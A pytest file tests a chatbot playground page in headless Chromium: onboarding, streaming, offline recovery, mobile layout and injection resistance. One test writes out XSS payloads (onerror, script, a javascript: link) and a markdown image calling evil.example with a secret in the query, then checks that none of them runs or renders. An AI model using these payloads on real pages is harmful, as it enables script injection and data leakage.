"""The page itself, in headless Chromium. Skipped, with the reason, where there is no browser."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from dspy_session_bots.playground import signed_with
from dspy_session_webhook import Webhook
from tests.bots.playground.chromium import SHIFT, Tab, browsing
from tests.bots.playground.page import serving
from tests.stub_lm import Prompt

SECRET = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
READY = "document.getElementById('agent')?.textContent"


@pytest.fixture
async def tab(browser: str):
    async with browsing(browser) as opened:
        yield opened


def friendly(prompt: Prompt) -> dict[str, str]:
    if "What is my name?" not in prompt.last:
        return {"answer": "Hello, **Ann**!"}
    return {"answer": "Ann." if any("Ann" in message["content"] for message in prompt.messages[:-1]) else "Who knows?"}


async def say(tab: Tab, text: str) -> None:
    await tab.run("document.getElementById('message').focus()")
    await tab.type(text)
    await tab.press("Enter")


async def test_a_newcomer_is_led_through_the_idea(tab: Tab):
    def webhook(playground):
        return [Webhook(playground.hook_url, SECRET, allow_loopback=True)]

    async with serving(
        reply=friendly, sinks=webhook, verify=signed_with(SECRET), agent_name="A friend", model_name="Small model"
    ) as visitor:
        await tab.go(visitor.playground.url)
        await tab.until_text("h1", "A friend")
        await tab.until_text("#model", "answered by Small model")
        await tab.until_text("#welcome", "Say hi. Then ask what you just said.")
        await tab.click("#welcome [data-say]")
        await tab.until_text(".exchange:nth-child(1) .prose strong", "Ann")
        await tab.until_text("#ask-back", "Now ask what you just said")
        await tab.click("#ask-back [data-say]")
        await tab.until_text(".exchange:nth-child(2) .prose", "Ann.")
        await tab.until_text("#turns > li:nth-child(1)", "history 1")
        await tab.until_text("#deliveries > li:nth-child(1)", "signature valid")
        await tab.click("#elsewhere")
        await tab.until("document.querySelectorAll('.exchange').length === 0")
        await say(tab, "What is my name?")
        await tab.until_text(".exchange:nth-child(1) .prose", "Who knows?")
        await tab.until("document.querySelectorAll('#thread-list a').length === 2")

        await tab.reload()
        await tab.until_text(".exchange:nth-child(1) .prose", "Who knows?")
        await tab.click("#thread-list li:nth-child(2) a")
        await tab.until_text(".exchange:nth-child(2) .prose", "Ann.")
        await tab.click(".exchange:nth-child(1) .to-turn")
        await tab.until_text("#turns details[open]", "Hello, **Ann**!")
    assert tab.complaints == []


async def test_text_streams_in_and_keys_do_what_they_say(tab: Tab):
    go_on = asyncio.Event()
    words = [f"word{number} " for number in range(40)]
    steps = ["[[ ## answer ## ]]\n", *words, go_on, "**end**\n\n[[ ## completed ## ]]"]
    async with serving(reply=lambda prompt: steps) as visitor:
        await tab.go(visitor.playground.url)
        await tab.until(READY)
        await tab.run("document.getElementById('message').focus()")
        await tab.type("one")
        await tab.press("Enter", SHIFT)
        await tab.type("two")
        assert await tab.run("document.getElementById('message').rows") == 2
        await tab.press("Enter")
        await tab.until_text(".question .text", "one\ntwo")
        await tab.until_text(".answer .prose", "word20")
        await tab.until_text(".status", "Writing")
        await say(tab, "three")
        await tab.until_text(".exchange:nth-child(2) .status", "Waiting")
        go_on.set()
        await tab.until_text(".exchange:nth-child(1) .prose strong", "end")
        await tab.until("document.querySelectorAll('.status:not([hidden])').length === 0")
        assert await tab.run("document.getElementById('message').value") == ""
    assert tab.complaints == []


async def test_nothing_that_is_written_becomes_part_of_the_page(tab: Tab):
    hostile = "<img src=x onerror='window.pwned=1'><script>window.pwned=2</script> [x](javascript:window.pwned=3)"
    hostile += " ![y](https://evil.example/?q=secret) <style>*{display:none}</style>"
    async with serving(reply=lambda prompt: {"answer": hostile}, agent_name=hostile, model_name=hostile) as visitor:
        await tab.go(visitor.playground.url)
        await tab.until(READY)
        await say(tab, hostile)
        await tab.until_text("#turns li", "history 0")
        await tab.until("document.querySelectorAll('.status:not([hidden])').length === 0")
        await tab.run("document.querySelectorAll('details').forEach((one) => (one.open = true))")
        await tab.until_text("#turns details", "<script>window.pwned=2</script>")
        assert await tab.run("document.querySelectorAll('main img, aside img, body script, body style').length") == 0
        assert await tab.run("[...document.querySelectorAll('.prose a')].map((link) => link.href)") == [
            "https://evil.example/?q=secret"
        ]
        assert await tab.run("window.pwned") is None
    assert tab.complaints == []


async def test_the_browser_would_refuse_what_slipped_in(tab: Tab):
    async with serving() as visitor:
        await tab.go(visitor.playground.url)
        await tab.until(READY)
        said = await tab.run(
            "(() => { try { document.body.innerHTML = 'x'; } catch (error) { return error.message; } })()"
        )
        assert "TrustedHTML" in said
        for tag in ("style", "script"):
            refused = await tab.run(f"""new Promise((done) => {{
                document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
                const slipped = document.createElement("{tag}");
                slipped.append("0");
                document.head.append(slipped);
            }})""")
            assert refused in (f"{tag}-src-elem", "require-trusted-types-for")


async def test_the_page_goes_on_by_itself_when_the_server_is_back(tab: Tab, tmp_path: Path):
    store = f"sqlite:///{tmp_path / 'chat.db'}"
    async with serving(store, reply=friendly) as visitor:
        port = int(visitor.origin.rpartition(":")[2])
        await tab.go(visitor.playground.url)
        await tab.until(READY)
        await say(tab, "I am Ann")
        await tab.until_text(".exchange .prose strong", "Ann")
        await tab.until_text("#turns", "history 0")
    await tab.until("!document.getElementById('offline').hidden")
    await say(tab, "What is my name?")
    await tab.until_text("#problem", "Not sent")
    assert await tab.run("document.getElementById('message').value") == "What is my name?"
    async with serving(store, reply=friendly, port=port):
        await tab.until("document.getElementById('offline').hidden")
        await tab.until("document.getElementById('problem').hidden")
        await tab.run("document.getElementById('message').focus()")
        await tab.press("Enter")
        await tab.until_text(".exchange:nth-child(2) .prose", "Ann.")


async def test_on_a_phone_the_panels_are_drawers(tab: Tab):
    async with serving(reply=friendly) as visitor:
        await tab.resize(390, 800)
        await tab.go(visitor.playground.url)
        await tab.until(READY)
        await say(tab, "I am Ann")
        await tab.until_text(".to-turn", "turn 1")
        assert await tab.run("document.documentElement.scrollWidth") == 390
        for name in ("threads", "inspector"):
            visible = f"getComputedStyle(document.getElementById('{name}')).visibility === 'visible'"
            assert not await tab.run(visible)
            await tab.click(f"#show-{name}")
            await tab.until(visible)
            assert await tab.run(f"document.getElementById('show-{name}').ariaExpanded") == "true"
            await tab.press("Escape")
            await tab.until(f"!({visible})")
        await tab.click(".to-turn")
        await tab.until_text("#inspector", "Hello, **Ann**!")
    assert tab.complaints == []
